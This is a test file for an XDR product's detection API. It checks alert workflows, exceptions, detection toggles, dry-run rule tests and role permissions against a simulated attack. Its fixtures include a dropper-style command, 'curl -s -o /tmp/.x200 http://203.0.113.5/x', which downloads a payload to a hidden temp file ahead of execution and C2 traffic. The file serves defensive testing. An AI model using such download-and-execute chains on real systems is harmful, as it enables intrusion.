// Detection routes through fastify inject with a real store and a real detection stage:
// /oat, /alerts (list, one, PATCH workflow with audit, false positive -> exception),
// /detections (list, switch off, dry run), /exceptions, /hosts/:id/criticality; roles.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attackEvents, GOLDEN_RULES } from '../../detection/alerts/test-attack.js';
import { DetectionStage } from '../../detection/detection-stage.js';
import { CollectorMetrics } from '../../metrics.js';
import { openStore, type Role, type Store } from '../../store/index.js';
import { buildApi } from '../index.js';
import { createApiToken } from '../tokens.js';
import { bearer } from '../test/support.js';

const T0 = 1_700_000_000_000;
let dir: string;
let store: Store;
let app: FastifyInstance;
let stage: DetectionStage;
const tokens = {} as Record<Role, string>;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xdr-api-det-'));
  store = openStore(dir);
  for (const role of ['viewer', 'analyst', 'responder', 'admin'] as const) {
    tokens[role] = (await createApiToken(store, { user: `${role}-user`, role, actor: 'test' })).token;
  }
  stage = new DetectionStage({ dirs: [GOLDEN_RULES], store, log: pino({ level: 'silent' }) });
  await stage.reloadTuning();
  app = await buildApi({ store, metrics: new CollectorMetrics(), presence: { isOnline: () => false }, log: pino({ level: 'silent' }), version: '0.0.0-test', detection: stage });
  stage.enqueue(attackEvents({ session: 200, t0: T0 }));
  stage.enqueue(attackEvents({ session: 500, t0: T0, host: 'db1' }));
  await stage.idle();
});
afterAll(async () => {
  await app.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

const get = (url: string, role: Role = 'viewer') => app.inject({ url, headers: bearer(tokens[role]) });
const send = (method: 'PATCH' | 'POST' | 'PUT' | 'DELETE', url: string, payload: unknown, role: Role = 'analyst') =>
  app.inject({ method, url, headers: bearer(tokens[role]), payload: payload as object });

describe('detection API', () => {
  it('GET /oat filters by host, technique, tactic (id or name), risk and time', async () => {
    const all = (await get('/api/v1/oat')).json();
    expect(all.oats).toHaveLength(8);
    expect(all.oats[0]).toMatchObject({ rule_id: expect.any(String), risk: expect.any(String), host_id: expect.any(String), event_id: expect.any(String) });
    expect((await get('/api/v1/oat?host=db1')).json().oats).toHaveLength(4);
    expect((await get('/api/v1/oat?technique=T1222')).json().oats.map((o: { rule_id: string }) => o.rule_id)).toEqual(['g-chmod-tmp', 'g-chmod-tmp']);
    expect((await get('/api/v1/oat?tactic=command-and-control&host=web1')).json().oats).toHaveLength(2);
    expect((await get('/api/v1/oat?tactic=TA0011&risk=high')).json().oats).toHaveLength(2);
    expect((await get(`/api/v1/oat?from=${T0 + 4000}`)).json().oats).toHaveLength(2);
    const page = (await get('/api/v1/oat?limit=5')).json();
    const rest = (await get(`/api/v1/oat?limit=5&cursor=${page.next_cursor}`)).json();
    expect(page.oats.length + rest.oats.length).toBe(8);
    expect((await get('/api/v1/oat?risk=severe')).json().error.code).toBe('XDR_BAD_QUERY');
    expect((await get('/api/v1/oat?event_id=web1-200:4&with_event=true')).json().oats[0].event).toMatchObject({ 'destination.ip': '203.0.113.5' });
  });

  it('GET /alerts lists by score with filters; GET /alerts/:id has highlights and evidence', async () => {
    const list = (await get('/api/v1/alerts')).json().alerts;
    expect(list).toHaveLength(2);
    expect(list[0].score).toBeGreaterThanOrEqual(list[1].score);
    const web = (await get('/api/v1/alerts?host=web1')).json().alerts;
    expect(web).toHaveLength(1);
    const one = (await get(`/api/v1/alerts/${web[0].id}`)).json();
    expect(one).toMatchObject({ title: 'Dropper followed by command and control', status: 'new', score: 99, level: 'critical' });
    expect(one.highlights.commands[0]).toEqual({ value: 'curl -s -o /tmp/.x200 http://203.0.113.5/x', count: 1, event_ids: ['web1-200:1'], pivot: 'process.command_line:"curl -s -o /tmp/.x200 http://203.0.113.5/x"' });
    expect(one.highlights.destination_ips[0].event_ids).toEqual(['web1-200:4']);
    expect(one.evidence.map((o: { rule_id: string }) => o.rule_id)).toEqual(['g-download-tmp', 'g-chmod-tmp', 'g-exec-tmp', 'g-c2-from-tmp']);
    expect((await get('/api/v1/alerts?status=closed')).json().alerts).toHaveLength(0);
    expect((await get('/api/v1/alerts/00000000-0000-4000-8000-000000000000')).json().error.code).toBe('XDR_ALERT_NOT_FOUND');
  });

  it('PATCH /alerts/:id: workflow, assignee, notes, audited; viewers may not', async () => {
    const [a] = (await get('/api/v1/alerts?host=web1')).json().alerts;
    expect((await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'in_progress' }, 'viewer')).statusCode).toBe(403);
    const r = await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'in_progress', assignee: 'analyst-user', note: 'checking the binary' });
    expect(r.statusCode).toBe(200);
    expect(r.json().alert).toMatchObject({ status: 'in_progress', assignee: 'analyst-user', notes: [{ author: 'analyst-user', text: 'checking the binary' }] });
    expect((await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'closed' })).json().error.code).toBe('XDR_BAD_TRANSITION');
    expect((await send('PATCH', `/api/v1/alerts/${a.id}`, { resolution: 'benign' })).json().error.code).toBe('XDR_BAD_TRANSITION');
    const closed = (await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'closed', resolution: 'true_positive' })).json();
    expect(closed.alert).toMatchObject({ status: 'closed', resolution: 'true_positive' });
    const reopened = (await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'in_progress' })).json();
    expect(reopened.alert).toMatchObject({ status: 'in_progress', resolution: null });
    const audit = (await store.listAudit(100)).filter((e) => e.action === 'alert.update' && e.target === a.id);
    expect(audit).toHaveLength(3);
    expect(audit[2]).toMatchObject({ actor: 'analyst-user', details: { status: { from: 'new', to: 'in_progress' }, assignee: { from: null, to: 'analyst-user' }, note: 'checking the binary' } });
  });

  it('closing as false positive creates a scoped exception in one step, which suppresses the next attack', async () => {
    const [a] = (await get('/api/v1/alerts?host=db1')).json().alerts;
    const bad = await send('PATCH', `/api/v1/alerts/${a.id}`, { status: 'closed', resolution: 'false_positive', exception: { rule_id: 'g-download-tmp', fields: ['destination.port'] } });
    expect(bad.json().error.code).toBe('XDR_BAD_EXCEPTION');
    const r = await send('PATCH', `/api/v1/alerts/${a.id}`, {
      status: 'closed', resolution: 'false_positive', note: 'our deploy job',
      exception: { rule_id: 'g-download-tmp', fields: ['process.parent.executable', 'process.name'] },
    });
    expect(r.statusCode).toBe(200);
    expect(r.json().exception).toMatchObject({
      rule_id: 'g-download-tmp', hosts: ['db1'], enabled: true, created_by: 'analyst-user',
      conditions: [{ field: 'process.parent.executable', op: 'equals', values: ['/bin/bash'] }, { field: 'process.name', op: 'equals', values: ['curl'] }],
    });
    expect((await store.listAudit(100)).some((e) => e.action === 'exception.create' && e.details.fromAlert === a.id)).toBe(true);
    stage.enqueue(attackEvents({ session: 600, t0: T0 + 600_000, host: 'db1' }));
    stage.enqueue(attackEvents({ session: 700, t0: T0 + 600_000, host: 'web2' }));
    await stage.idle();
    expect((await get('/api/v1/alerts?host=db1')).json().alerts).toHaveLength(1);
    expect((await get('/api/v1/alerts?host=web2')).json().alerts).toHaveLength(1);
  });

  it('/exceptions CRUD is validated, applied and audited', async () => {
    const bad = await send('POST', '/api/v1/exceptions', { rule_id: 'nope', conditions: [{ field: 'process.name', values: ['x'] }] });
    expect(bad.json().error.code).toBe('XDR_BAD_EXCEPTION');
    const bad2 = await send('POST', '/api/v1/exceptions', { rule_id: 'g-exec-tmp', conditions: [{ field: 'Image', values: ['x'] }] });
    expect(bad2.json().error.message).toContain('"Image" is not an ECS field');
    const created = await send('POST', '/api/v1/exceptions', { rule_id: 'g-exec-tmp', conditions: [{ field: 'process.executable', op: 'startswith', values: ['/tmp/.x8'] }], comment: 'lab' });
    expect(created.statusCode).toBe(201);
    const id = created.json().id;
    expect((await get(`/api/v1/exceptions?rule_id=g-exec-tmp`)).json().map((e: { id: string }) => e.id)).toEqual([id]);
    expect((await send('PATCH', `/api/v1/exceptions/${id}`, { enabled: false })).json().enabled).toBe(false);
    expect((await send('DELETE', `/api/v1/exceptions/${id}`, undefined)).statusCode).toBe(200);
    expect((await get(`/api/v1/exceptions/${id}`)).json().error.code).toBe('XDR_EXCEPTION_NOT_FOUND');
    const actions = (await store.listAudit(100)).filter((e) => e.target === id).map((e) => e.action);
    expect(actions).toEqual(['exception.delete', 'exception.update', 'exception.create']);
  });

  it('/detections lists with state and hits; admins switch one off live (audited)', async () => {
    const list = (await get('/api/v1/detections')).json();
    expect(list.map((d: { id: string }) => d.id).sort()).toEqual(['g-c2-from-tmp', 'g-chmod-tmp', 'g-download-tmp', 'g-exec-tmp', 'm-dropper-c2', 'r-c2', 'r-dropper']);
    expect(list.find((d: { id: string }) => d.id === 'g-chmod-tmp')).toMatchObject({ layer: 'filter', enabled: true, hits: 4, techniques: ['T1222.002'] });
    expect((await get('/api/v1/detections?layer=model')).json()).toHaveLength(1);
    expect((await send('PATCH', '/api/v1/detections/m-dropper-c2', { enabled: false }, 'analyst')).statusCode).toBe(403);
    const off = await send('PATCH', '/api/v1/detections/m-dropper-c2', { enabled: false }, 'admin');
    expect(off.json()).toMatchObject({ id: 'm-dropper-c2', enabled: false });
    expect((await send('PATCH', '/api/v1/detections/nope', { enabled: false }, 'admin')).json().error.code).toBe('XDR_DETECTION_NOT_FOUND');
    const before = (await get('/api/v1/alerts')).json().alerts.length;
    stage.enqueue(attackEvents({ session: 800, t0: T0 + 900_000, host: 'web3' }));
    await stage.idle();
    expect((await get('/api/v1/alerts')).json().alerts.length).toBe(before);
    await send('PATCH', '/api/v1/detections', { ids: ['m-dropper-c2'], enabled: true }, 'admin');
    expect((await store.listAudit(100)).filter((e) => e.target === 'm-dropper-c2').map((e) => e.action)).toEqual(['detection.enable', 'detection.disable']);
    expect((await get('/api/v1/detections/report')).json()).toMatchObject({ loaded: { filter: 4, rule: 2, model: 1 }, unsupported: [] });
  });

  it('POST /detections/test is a dry run: matches, OATs, alerts; nothing stored', async () => {
    const oatsBefore = (await get('/api/v1/oat?limit=10000')).json().oats.length;
    const events = attackEvents({ session: 900, t0: T0, host: 'lab1' }).map((e) => ({ ...e, '@timestamp': new Date(e['@timestamp']).toISOString() }));
    const r = await send('POST', '/api/v1/detections/test', { events });
    expect(r.statusCode).toBe(200);
    const body = r.json();
    expect(body.events).toBe(5);
    expect(body.oats).toHaveLength(4);
    expect(body.alerts).toHaveLength(1);
    expect(body.alerts[0]).toMatchObject({ model_id: 'm-dropper-c2', score: 99 });
    expect((await get('/api/v1/oat?limit=10000')).json().oats.length).toBe(oatsBefore);
    const withRule = await send('POST', '/api/v1/detections/test', {
      only_rules: true, events,
      rules: [{ file: 'r.yml', text: 'title: t\nid: my-curl\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /curl\n  condition: s\n---\ntitle: [bad\n' }],
    });
    expect(withRule.json().matches).toEqual([{ id: 'my-curl', title: 't', layer: 'filter', level: 'medium', count: 1 }]);
    expect(withRule.json().unsupported[0]).toMatchObject({ file: 'r.yml', code: 'E_YAML', line: 10 });
    expect((await send('POST', '/api/v1/detections/test', { events: [42] })).json().error.code).toBe('XDR_BAD_EVENTS');
  });

  it('PUT /hosts/:id/criticality re-scores open alerts (admin, audited)', async () => {
    const [a] = (await get('/api/v1/alerts?host=web1')).json().alerts;
    expect((await send('PUT', '/api/v1/hosts/web1/criticality', { criticality: 'low' }, 'analyst')).statusCode).toBe(403);
    const r = await send('PUT', '/api/v1/hosts/web1/criticality', { criticality: 'low' }, 'admin');
    expect(r.json()).toMatchObject({ host_id: 'web1', criticality: 'low', rescored_alerts: 1 });
    expect((await get(`/api/v1/alerts/${a.id}`)).json()).toMatchObject({ score: 79, score_parts: { criticality: 'low', factor: 0.8 } });
    expect((await get('/api/v1/hosts/criticality')).json()).toEqual([expect.objectContaining({ host_id: 'web1', criticality: 'low', updated_by: 'admin-user' })]);
  });
});
